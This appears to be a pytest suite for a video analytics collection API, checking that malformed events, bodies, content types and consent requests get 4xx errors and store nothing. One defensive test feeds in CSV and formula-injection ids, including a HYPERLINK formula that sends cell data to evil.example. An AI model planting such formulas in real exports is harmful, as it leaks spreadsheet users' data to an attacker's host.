"""Every malformed-input class answers a 4xx naming the problem, and stores nothing."""

import json

import pytest

from analytics.wire import MAX_EVENTS
from tests.conftest import CHROME_WIN, collect, consent, count_events, event, now_ms, wait_for

VIEWER = "viewer-v"


@pytest.fixture
def consented(server, tenant):
    assert consent(server.http, tenant.tenant_id, VIEWER).status_code == 201
    return server, tenant


def _assert_nothing_stored(server, store, tenant):
    wait_for(lambda: server.edge.buffer.pending_rows == 0)
    assert count_events(store, tenant.tenant_id) == 0


@pytest.mark.parametrize(
    "events, path, fragment",
    [
        ([event("bogus")], "$.events[0].type", "viewstart"),
        ([event(), event(ts="yesterday")], "$.events[1].ts", "Expected `int`"),
        ([event(screen_w=-5)], "$.events[0].screen_w", ">= 0"),
        ([event(position_ms=2**64)], "$.events[0].position_ms", "<= 1000000000000"),
        ([event(fatal="yes")], "$.events[0].fatal", "Expected `bool | null`"),
        ([event(view_id=17)], "$.events[0].view_id", "Expected `str`, got `int`"),
        ([event(colour="red")], "$.events[0]", "unknown field `colour`"),
        ([{"type": "playing", "ts": 1}], "$.events[0]", "missing required field"),
        # Clock-relative cases are built when the test runs, not when it is collected.
        (lambda: [event(ts=now_ms() + 6 * 60 * 1000)], "$.events[0].ts", "future"),
        (lambda: [event(), event(ts=now_ms() - 25 * 3600 * 1000)], "$.events[1].ts", "24 hours old"),
        ([], "$.events", "length >= 1"),
        ([event() for _ in range(MAX_EVENTS + 1)], "$.events", f"length <= {MAX_EVENTS}"),
    ],
    ids=["type", "ts-type", "negative", "huge", "bool", "id-type", "unknown-field", "missing", "future", "old",
         "empty", "too-many"],
)
def test_bad_events_are_400_with_path(consented, store, events, path, fragment):
    server, tenant = consented
    r = collect(server.http, tenant.tenant_id, VIEWER, events() if callable(events) else events)
    assert r.status_code == 400, r.text
    body = r.json()
    assert body["error"] == "invalid_field"
    assert body["detail"]["path"] == path
    assert fragment in body["detail"]["message"]
    _assert_nothing_stored(server, store, tenant)


def test_a_batch_with_one_bad_event_stores_none_of_it(consented, store):
    server, tenant = consented
    r = collect(server.http, tenant.tenant_id, VIEWER, [event(), event(), event("nope")])
    assert r.status_code == 400
    _assert_nothing_stored(server, store, tenant)


@pytest.mark.parametrize(
    "raw, error",
    [
        (b'{"tenant_id": "t", "viewer_id": ', "invalid_json"),
        (b"not json at all", "invalid_json"),
        (b'{"tenant_id": "t\xff\xfe", "viewer_id": "v", "events": []}', "invalid_utf8"),
        (b"\xff{\"tenant_id\": \"t\"}", "invalid_utf8"),
        (b"[1, 2, 3]", "invalid_field"),
    ],
)
def test_malformed_bodies_are_400(server, raw, error):
    r = server.http.post("/v1/collect", content=raw, headers={"content-type": "application/json"})
    assert r.status_code == 400
    assert r.json()["error"] == error
    assert "message" in r.json()["detail"]


def test_body_over_256_kib_is_413(consented, store):
    server, tenant = consented
    big = event(error_message="x" * 1000)
    payload = {"tenant_id": tenant.tenant_id, "viewer_id": VIEWER, "events": [big] * 300}
    data = json.dumps(payload).encode()
    assert len(data) > 256 * 1024
    r = server.http.post("/v1/collect", content=data, headers={"content-type": "application/json"})
    assert r.status_code == 413
    assert r.json()["error"] == "body_too_large"
    _assert_nothing_stored(server, store, tenant)


def test_unknown_tenant_is_400(server):
    r = collect(server.http, "tn_doesnotexist", VIEWER, [event()])
    assert r.status_code == 400
    assert r.json() == {
        "error": "unknown_tenant",
        "detail": {"path": "$.tenant_id", "message": "no tenant 'tn_doesnotexist'"},
    }


def test_other_content_types_are_415(server, tenant):
    r = server.http.post("/v1/collect", content=b"a=b", headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 415
    assert r.json()["error"] == "unsupported_media_type"


def test_send_beacon_text_plain_is_accepted(consented, store):
    server, tenant = consented
    body = {"tenant_id": tenant.tenant_id, "viewer_id": VIEWER, "events": [event("viewend")]}
    r = server.http.post(
        "/v1/collect",
        content=json.dumps(body),
        headers={"content-type": "text/plain;charset=UTF-8", "user-agent": CHROME_WIN},
    )
    assert r.status_code == 202
    wait_for(lambda: count_events(store, tenant.tenant_id) == 1)


def test_bad_consent_body_is_400(server, tenant):
    r = server.http.post("/v1/consent", json={"tenant_id": tenant.tenant_id, "viewer_id": "v"})
    assert r.status_code == 400
    assert r.json()["detail"]["path"] == "$"
    assert "purposes" in r.json()["detail"]["message"]
    r = server.http.post(
        "/v1/consent",
        json={"tenant_id": tenant.tenant_id, "viewer_id": "v", "purposes": ["analytics"],
              "policy_version": "1", "viewer_email": "not-an-email"},
    )
    assert r.status_code == 400 and r.json()["detail"]["path"] == "$.viewer_email"


@pytest.mark.parametrize("field, value", [
    ("video_id", '=HYPERLINK("http://evil.example/?"&A1,"open")'), ("video_id", "@SUM(1)"),
    ("view_id", "view\r\nrow"), ("view_id", "a,b"), ("video_id", "vd 1"), ("video_id", "vidéo"),
    ("view_id", '"quoted"'),
])
def test_beacon_ids_outside_the_id_characters_are_400_naming_the_field(consented, store, field, value):
    """`view_id` and `video_id` are ids: `[A-Za-z0-9._:-]{1,128}`, like tenant and viewer ids."""
    server, tenant = consented
    r = collect(server.http, tenant.tenant_id, VIEWER, [event(), event(), event(**{field: value})])
    assert r.status_code == 400, r.text
    assert r.json()["error"] == "invalid_field"
    assert r.json()["detail"]["path"] == f"$.events[2].{field}"
    assert field in r.json()["detail"]["message"]
    _assert_nothing_stored(server, store, tenant)


def test_the_ids_players_send_are_accepted(consented, store):
    server, tenant = consented
    ids = [("3f2a9c1e-5b7d-4e8a-9c0d-1a2b3c4d5e6f", "vd_0123456789abcdef"), ("v.1:x_y-z", "st_0123456789abcdef"),
           ("a" * 128, "-1-1")]
    r = collect(server.http, tenant.tenant_id, VIEWER, [event(view_id=v, video_id=m) for v, m in ids])
    assert r.status_code == 202, r.text
